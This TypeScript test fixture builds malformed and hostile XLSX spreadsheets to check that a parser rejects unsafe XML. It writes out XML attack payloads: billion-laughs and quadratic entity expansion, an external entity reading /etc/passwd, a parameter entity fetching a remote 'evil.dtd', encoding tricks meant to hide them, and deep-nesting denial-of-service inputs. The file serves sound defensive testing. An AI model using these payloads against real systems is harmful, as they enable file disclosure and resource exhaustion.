// Hostile and broken XML: what is wrong stands in the markup of a part.
import { DECLARATION, MAIN, row, sheetXml, xlsxOf, xlsxOfSheet } from '../workbook.ts'
import { bytesOf, join } from '../zip.ts'
import { damaged, tooLarge, unreadable, unsafe, type HostileFile } from './hostile-file.ts'

const claim = row(1, 'Tosite 101', 7250)
const reads = { reads: { 'Taul1!A1': 'Tosite 101', 'Taul1!B1': 7250 } }
const sheet = sheetXml(claim)
/** The claim's sheet with something put before its root element. */
const prefaced = (preface: string): string => sheet.replace('<worksheet', `${preface}<worksheet`)
const textCell = (xml: string): string => sheetXml(`<row r="1"><c r="A1" t="inlineStr"><is><t>${xml}</t></is></c></row>`)

const BILLION_LAUGHS =
  '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
const EXTERNAL = '<!DOCTYPE x [<!ENTITY passwd SYSTEM "file:///etc/passwd">]>'
const PARAMETER = '<!DOCTYPE x [<!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote;]>'

const doctypes: readonly HostileFile[] = [
  { name: 'a billion laughs in a sheet', bytes: () => xlsxOfSheet(prefaced(BILLION_LAUGHS)) },
  { name: 'an external entity in a sheet', bytes: () => xlsxOfSheet(prefaced(EXTERNAL)) },
  { name: 'a parameter entity in a sheet', bytes: () => xlsxOfSheet(prefaced(PARAMETER)) },
  { name: 'a quadratic blow-up in a sheet', bytes: () => xlsxOfSheet(prefaced(`<!DOCTYPE x [<!ENTITY a "${'a'.repeat(50_000)}">]>`)) },
  { name: 'a mere DOCTYPE in a sheet', bytes: () => xlsxOfSheet(prefaced('<!DOCTYPE worksheet>')) },
  { name: 'a DOCTYPE in small letters', bytes: () => xlsxOfSheet(prefaced('<!doctype worksheet>')) },
  {
    name: 'a DOCTYPE after a comment and an instruction',
    bytes: () => xlsxOfSheet(prefaced('<!-- harmless --><?app harmless?><!DOCTYPE x>')),
  },
  { name: 'a DOCTYPE after ten kilobytes of comment', bytes: () => xlsxOfSheet(prefaced(`<!--${'x '.repeat(5000)}--><!DOCTYPE x>`)) },
  { name: 'an entity declaration within a sheet', bytes: () => xlsxOfSheet(sheetXml(`<!ENTITY x "y">${claim}`)) },
  {
    name: 'a DOCTYPE in UTF-16, little end first',
    bytes: () => xlsxOf({ data: claim, replace: { 'xl/worksheets/sheet1.xml': utf16(prefaced(EXTERNAL), true) } }),
  },
  {
    name: 'a DOCTYPE in UTF-16, big end first',
    bytes: () => xlsxOf({ data: claim, replace: { 'xl/worksheets/sheet1.xml': utf16(prefaced(EXTERNAL), false) } }),
  },
  {
    name: 'a DOCTYPE in UTF-16 without a mark',
    bytes: () => xlsxOf({ data: claim, replace: { 'xl/worksheets/sheet1.xml': utf16(prefaced(EXTERNAL), true).slice(2) } }),
  },
  {
    name: 'a DOCTYPE in the shared strings',
    bytes: () =>
      xlsxOf({ data: claim, strings: '', replace: { 'xl/sharedStrings.xml': `${DECLARATION}${BILLION_LAUGHS}<sst xmlns="${MAIN}"/>` } }),
  },
  {
    name: 'a DOCTYPE in the styles',
    bytes: () => xlsxOf({ data: claim, styles: '', replace: { 'xl/styles.xml': `${EXTERNAL}<styleSheet xmlns="${MAIN}"/>` } }),
  },
  {
    name: 'a DOCTYPE in the workbook',
    bytes: () => xlsxOf({ data: claim, replace: { 'xl/workbook.xml': `${EXTERNAL}<workbook xmlns="${MAIN}"/>` } }),
  },
  {
    name: 'a DOCTYPE in the content types',
    bytes: () => xlsxOf({ data: claim, replace: { '[Content_Types].xml': `${BILLION_LAUGHS}<Types/>` } }),
  },
  {
    name: 'a DOCTYPE in the relationships',
    bytes: () => xlsxOf({ data: claim, replace: { '_rels/.rels': `${EXTERNAL}<Relationships/>` } }),
  },
  {
    name: 'a DOCTYPE in the properties, which nobody reads',
    bytes: () => xlsxOf({ data: claim, more: [{ name: 'docProps/core.xml', content: `${DECLARATION}${EXTERNAL}<x>&passwd;</x>` }] }),
  },
  {
    name: 'a DOCTYPE in a custom part in UTF-16',
    bytes: () => xlsxOf({ data: claim, more: [{ name: 'customXml/item1.xml', content: utf16(`${EXTERNAL}<x/>`, true) }] }),
  },
  {
    name: 'a DOCTYPE in a drawing',
    bytes: () => xlsxOf({ data: claim, more: [{ name: 'xl/drawings/vmlDrawing1.vml', content: `${EXTERNAL}<xml/>` }] }),
  },
].map((file) => ({ ...file, expected: unsafe('doctype') }))

const innocent: readonly HostileFile[] = [
  { name: 'a DOCTYPE that is only spoken of in a comment', bytes: () => xlsxOfSheet(prefaced('<!-- <!DOCTYPE x> -->')), expected: reads },
  {
    name: 'a DOCTYPE that is a text',
    bytes: () => xlsxOfSheet(textCell('<![CDATA[<!DOCTYPE x>]]>')),
    expected: { reads: { 'Taul1!A1': '<!DOCTYPE x>' } },
  },
]

const references: readonly HostileFile[] = [
  '&nbsp;',
  '&lol;',
  '&#0;',
  '&#xB;',
  '&#xD800;',
  '&#x110000;',
  '&#xFFFFFFFFFF;',
  '&#-1;',
  '&',
  '&amp',
  '&;',
  '&#;',
].map((reference) => ({ name: `a text with ${reference}`, bytes: () => xlsxOfSheet(textCell(`a${reference}b`)), expected: damaged }))

const malformed: readonly HostileFile[] = [
  ['a sheet cut off in a tag', sheet.slice(0, 300)],
  ['a sheet cut off between tags', sheet.slice(0, sheet.indexOf('</row>'))],
  ['a sheet without its last end tag', sheet.replace('</worksheet>', '')],
  ['an end tag of another element', sheet.replace('</row>', '</raw>')],
  ['an end tag too many', `${sheet}</worksheet>`],
  ['two root elements', `${sheet}<worksheet/>`],
  ['text after the root element', `${sheet}more`],
  ['text before the root element', prefaced('foo')],
  ['no root element', DECLARATION],
  ['an empty part', ''],
  ['an attribute without quotes', sheet.replace('r="1"', 'r=1')],
  ['an attribute without a value', sheet.replace('r="1"', 'r')],
  ['an attribute that never ends', sheet.replace('r="1"', 'r="1')],
  ['attributes that touch', sheet.replace('<row r="1"', '<row r="1"s="1"')],
  ['an attribute twice', sheet.replace('<row r="1"', '<row r="1" r="2"')],
  ['a tag within an attribute', sheet.replace('r="1"', 'r="<b/>"')],
  ['a comment that never ends', sheet.replace('<row', '<!-- <row')],
  ['a CDATA section that never ends', textCell('<![CDATA[abc')],
  ['an instruction that never ends', sheet.replace('<row', '<? <row')],
  ['a prefix nobody declared', sheet.replaceAll('row', 'q:row')],
  ['a name that is none', sheet.replace('<row', '< row')],
  ['a text with a zero byte', textCell('a\u0000b')],
  ['a text with a control character', textCell('a\u0008b')],
  ['markup within a value', sheetXml('<row r="1"><c r="A1"><v>1<b>2</b>3</v></c></row>')],
].map(([name = '', xml = '']) => ({ name, bytes: () => xlsxOfSheet(xml), expected: damaged }))

const encodings: readonly HostileFile[] = [
  {
    name: 'a part whose declaration hides its encoding behind spaces',
    bytes: () => xlsxOfSheet(sheet.replace(' encoding', `${' '.repeat(300)} encoding`)),
    expected: unreadable('unknownEncoding'),
  },
  {
    name: 'a text that is no UTF-8',
    bytes: () => xlsxOf({ replace: { 'xl/worksheets/sheet1.xml': latin(textCell('Tampere \u00e4')) } }),
    expected: damaged,
  },
  {
    name: 'a part in UTF-32',
    bytes: () => xlsxOf({ replace: { 'xl/worksheets/sheet1.xml': join(Uint8Array.of(0xff, 0xfe, 0, 0), bytesOf(sheet)) } }),
    expected: unreadable('unknownEncoding'),
  },
  {
    name: 'a part said to be in UTF-7',
    bytes: () => xlsxOfSheet(sheet.replace('UTF-8', 'UTF-7')),
    expected: unreadable('unknownEncoding'),
  },
  {
    name: 'a part said to be in EBCDIC',
    bytes: () => xlsxOfSheet(sheet.replace('UTF-8', 'IBM037')),
    expected: unreadable('unknownEncoding'),
  },
  {
    name: 'half a character in UTF-16',
    bytes: () => xlsxOf({ replace: { 'xl/worksheets/sheet1.xml': utf16(sheet, true).slice(0, -1) } }),
    expected: damaged,
  },
]

const vocabularies: readonly HostileFile[] = [
  { name: 'a sheet in a namespace of its own', bytes: () => xlsxOfSheet(sheet.replace(MAIN, 'urn:other')), expected: damaged },
  { name: 'a sheet without a namespace', bytes: () => xlsxOfSheet(sheet.replace(`xmlns="${MAIN}"`, '')), expected: damaged },
  {
    name: 'a workbook in a namespace of its own',
    bytes: () => xlsxOf({ replace: { 'xl/workbook.xml': '<workbook xmlns="urn:beta"/>' } }),
    expected: unreadable('wrongFormat'),
  },
  { name: 'a sheet that is a web page', bytes: () => xlsxOfSheet('<html><body>7250</body></html>'), expected: damaged },
]

const excess: readonly HostileFile[] = [
  {
    name: 'a million prefixes, each declared once',
    bytes: () =>
      xlsxOfSheet(
        sheetXml(
          claim,
          many(1_000_000, (index) => `<x xmlns:p${index.toString(36)}="u"/>`),
        ),
      ),
    expected: reads,
  },
  {
    name: '10,000 elements within each other',
    bytes: () => xlsxOfSheet(sheetXml(claim, '<x>'.repeat(10_000) + '</x>'.repeat(10_000))),
    expected: tooLarge('depth'),
  },
  {
    name: 'texts of a text, 200 deep',
    bytes: () => xlsxOf({ data: claim, strings: `<si>${'<r>'.repeat(200)}${'</r>'.repeat(200)}</si>` }),
    expected: tooLarge('depth'),
  },
  {
    name: '100,000 attributes on one element',
    bytes: () => xlsxOfSheet(sheetXml(`<row r="1" ${many(100_000, (index) => `a${index}=""`)}/>${row(2, 1)}`)),
    expected: { reads: { 'Taul1!A2': 1 } },
  },
  {
    name: '100,000 namespaces on one element',
    bytes: () => xlsxOfSheet(sheetXml(`<row r="1" ${many(100_000, (index) => `xmlns:a${index}="b"`)}/>`)),
    expected: damaged,
  },
  {
    name: 'a namespace declared anew 50,000 times',
    bytes: () => xlsxOfSheet(sheetXml(many(50_000, (index) => `<row xmlns="${MAIN}"><c><v>${index}</v></c></row>`))),
    expected: { reads: { 'Taul1!A50000': 49_999 } },
  },
  {
    name: 'a comment of ten megabytes',
    bytes: () => xlsxOfSheet(sheetXml(`<!--${'- '.repeat(5_000_000)}-->${claim}`)),
    expected: tooLarge('ratio'),
  },
  {
    name: 'a thousand comments within a number',
    bytes: () => xlsxOfSheet(sheetXml(`<row r="1"><c r="A1"><v>72${'<!-- -->'.repeat(1000)}50</v></c></row>`)),
    expected: { reads: { 'Taul1!A1': 7250 } },
  },
]

const many = (count: number, piece: (index: number) => string): string =>
  Array.from({ length: count }, (_, index) => piece(index)).join(' ')

const latin = (text: string): Uint8Array => Uint8Array.from(text, (character) => character.charCodeAt(0))

function utf16(text: string, isLittle: boolean): Uint8Array {
  const view = new DataView(new ArrayBuffer(2 * text.length + 2))
  view.setUint16(0, 0xfeff, isLittle)
  for (let at = 0; at < text.length; at++) view.setUint16(2 * at + 2, text.charCodeAt(at), isLittle)
  return new Uint8Array(view.buffer)
}

export const markup: readonly HostileFile[] = [
  ...doctypes,
  ...innocent,
  ...references,
  ...malformed,
  ...encodings,
  ...vocabularies,
  ...excess,
]
